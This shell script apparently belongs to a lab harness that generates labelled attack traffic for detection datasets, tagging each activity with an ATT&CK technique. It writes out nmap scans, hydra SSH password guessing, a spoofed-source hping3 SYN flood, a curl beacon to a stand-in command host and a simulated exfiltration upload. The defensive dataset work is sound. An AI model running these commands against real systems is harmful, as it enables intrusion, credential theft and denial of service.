# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# The labelled activities, sourced by lab.sh.  Each is bounded in count and time, stays inside the
# laboratory, and writes its label when it has ended.  A label's addresses are those on the wire.

# shellcheck disable=SC2154 # work and here are lab.sh's

now() {
    date +%s.%6N
}

# A tool that finds or reaches nothing says so by its status; the activity took place all the same.
run_tool() { # host command...
    in_host "$@" || echo "$2 ended with $?"
}

label() { # activity technique source destination protocol port start tool
    local quote='"' technique=null port=null
    [ "$2" = - ] || technique=$quote$2$quote
    [ "$6" = - ] || port=$6
    printf '{"activity":"%s","technique":%s,"src":"%s","dst":"%s","proto":"%s","dport":%s,' \
        "$1" "$technique" "$3" "$4" "$5" "$port" >>"$labels"
    printf '"start":%s,"end":%s,"tool":"%s"}\n' "$7" "$(now)" "$8" >>"$labels"
}

# Of the resolver, which the scanning client otherwise asks over UDP alone.
port_scan() {
    local start
    start=$(now)
    run_tool pc7 timeout 60 nmap -sS -n -Pn -T4 --max-retries 1 --max-rate 60 -p 1-400 "$SRV4.53"
    label port_scan T1046 "$LAN4.17" "$SRV4.53" tcp - "$start" nmap
}

host_scan() {
    local start
    start=$(now)
    run_tool pc7 timeout 60 nmap -sS -n -Pn -T4 --max-retries 0 --max-rate 40 -p 445 "$SRV4.0/24"
    label host_scan T1046 "$LAN4.17" "$SRV4.0/24" tcp 445 "$start" nmap
}

# A short list at a time: hydra waits half a minute once the server has hung up on it.
password_guessing() {
    local start first
    start=$(now)
    for first in $(seq 1 4 93); do
        seq -f 'summer%g' "$first" $((first + 3)) >"$work/passwords"
        run_tool evil timeout 6 hydra -I -l alice -P "$work/passwords" -t 2 "ssh://$SRV4.22"
        sleep 0.7
    done
    label password_guessing T1110 "$OUT4.66" "$SRV4.22" tcp 22 "$start" hydra
}

# From an address that nobody has, so that the handshakes stay half-open.
syn_flood() {
    local start
    start=$(now)
    run_tool evil timeout 60 hping3 -q -S -a "$OUT4.200" -p 80 -i u4000 -c 1500 "$SRV4.80"
    label syn_flood T1498 "$OUT4.200" "$SRV4.80" tcp 80 "$start" hping3
}

beacon() { # seconds
    local start stop=$((SECONDS + $1))
    start=$(now)
    while [ $SECONDS -lt $stop ]; do
        run_tool pc5 curl -s -o /dev/null --max-time 5 --cacert "$work/certificate.pem" \
            --resolve "cdn.command.example:443:$OUT4.90" https://cdn.command.example/beacon
        sleep "$((9 + RANDOM % 2)).$((RANDOM % 900 + 50))"
    done
    label beacon T1071 "$LAN4.15" "$OUT4.90" tcp 443 "$start" curl
}

large_upload() {
    local start
    head -c 4000000 /dev/urandom >"$work/archive"
    start=$(now)
    run_tool pc4 curl -s --max-time 60 --limit-rate 300k --cacert "$work/certificate.pem" \
        --resolve "upload.cloud.example:443:[$OUT6::30]" -H 'Expect:' \
        --data-binary "@$work/archive" https://upload.cloud.example/upload
    label large_upload T1048 "$LAN6::14" "$OUT6::30" tcp 443 "$start" curl
}

bulk_udp() {
    local start
    start=$(now)
    run_tool pc3 timeout 90 python3 "$here/bulk_udp.py" send "$LAN4.13" "$OUT4.77" 51413 2100
    label bulk_udp - "$LAN4.13" "$OUT4.77" udp 51413 "$start" bulk_udp.py
}

# Each activity at its share of the run, those of one line side by side.
activities_run() { # seconds labels-file
    local seconds=$1 begin=$SECONDS step share activity
    labels=$2
    : >"$labels"
    beacon $((seconds - 15)) >>"$work/log/activities" 2>&1 &
    for step in 10:port_scan 20:bulk_udp 32:password_guessing 50:host_scan 62:syn_flood \
        76:large_upload; do
        share=${step%%:*} activity=${step#*:}
        wait_until $((begin + seconds * share / 100))
        "$activity" >>"$work/log/activities" 2>&1 &
    done
    wait_until $((begin + seconds))
    python3 -c 'import json, sys
lines = sorted(open(sys.argv[1]), key=lambda line: json.loads(line)["start"])
open(sys.argv[1], "w").writelines(lines)' "$labels"
}

wait_until() { # a value of SECONDS
    [ $SECONDS -ge "$1" ] || pause $(($1 - SECONDS))
}
